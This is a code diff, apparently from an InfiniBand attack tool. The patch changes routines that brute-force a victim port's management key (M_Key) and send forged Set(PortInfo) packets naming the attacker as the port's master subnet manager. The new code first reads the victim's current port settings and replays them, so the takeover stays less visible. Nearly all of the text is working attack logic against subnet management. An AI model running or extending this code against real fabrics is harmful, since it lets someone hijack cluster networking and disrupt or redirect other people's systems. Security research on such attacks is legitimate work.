@@ -206,21 +206,39 @@ void control_managers(struct attacker *attacker)
 
 /* ---- M_Keys ---- */
 
+/* The settings of the port with this LID, from the SA. */
+static bool read_settings(struct attacker *attacker, unsigned lid, uint8_t info[SMP_DATA_BYTES])
+{
+    size_t bytes;
+    uint8_t *record = make_query(attacker, METHOD_GET_TABLE, ATTRIBUTE_PORT_INFO_RECORD, 1);
+    wire_set(record, PORT_INFO_RECORD_LID, lid);
+    if (ask(attacker, &bytes) != 0 || bytes < SA_DATA_OFFSET + WIRE_BYTES_PORT_INFO_RECORD)
+        return false;
+    memset(info, 0, SMP_DATA_BYTES);
+    memcpy(info, response(attacker) + SA_DATA_OFFSET + PORT_INFO_RECORD_AT_PORT_INFO,
+           WIRE_BYTES_PORT_INFO);
+    wire_set(info, PORT_INFO_PORT_STATE, 0); /* no change */
+    wire_set(info, PORT_INFO_PORT_PHYSICAL_STATE, 0);
+    return true;
+}
+
 /* Set(PortInfo) of the victim: the attacker would be its manager. */
-static void make_port_set(struct attacker *attacker, uint64_t m_key)
+static void make_port_set(struct attacker *attacker, const uint8_t *settings, uint64_t m_key)
 {
     uint8_t *info = make_smp(attacker, METHOD_SET, ATTRIBUTE_PORT_INFO, 1);
     wire_set(umad_get_mad(attacker->out), SMP_M_KEY, m_key);
-    wire_set(info, PORT_INFO_LID, attacker->victim_lid);
+    memcpy(info, settings, SMP_DATA_BYTES);
     wire_set(info, PORT_INFO_MASTER_SM_LID, attacker->own_lid);
-    wire_set(info, PORT_INFO_GID_PREFIX, PREFIX);
 }
 
 void guess_m_keys(struct attacker *attacker)
 {
     unsigned outstanding = 0;
+    uint8_t settings[SMP_DATA_BYTES];
+    if (!read_settings(attacker, attacker->victim_lid, settings))
+        return;
     while (goes_on(attacker)) {
-        make_port_set(attacker, attacker->attempts % 256 ? rng_next(&attacker->rng) : 0);
+        make_port_set(attacker, settings, attacker->attempts % 256 ? rng_next(&attacker->rng) : 0);
         send_smp(attacker, attacker->victim_lid, 20);
         outstanding++;
         attacker->granted += take_answers(attacker, &outstanding, WINDOW);
@@ -229,9 +247,12 @@ void guess_m_keys(struct attacker *attacker)
 
 void use_own_m_key(struct attacker *attacker)
 {
+    uint8_t settings[SMP_DATA_BYTES];
+    if (!read_settings(attacker, attacker->victim_lid, settings))
+        return;
     while (goes_on(attacker)) {
         unsigned outstanding = 1;
-        make_port_set(attacker, attacker->own_m_key);
+        make_port_set(attacker, settings, attacker->own_m_key);
         send_smp(attacker, attacker->victim_lid, 20);
         attacker->granted += take_answers(attacker, &outstanding, 1);
     }
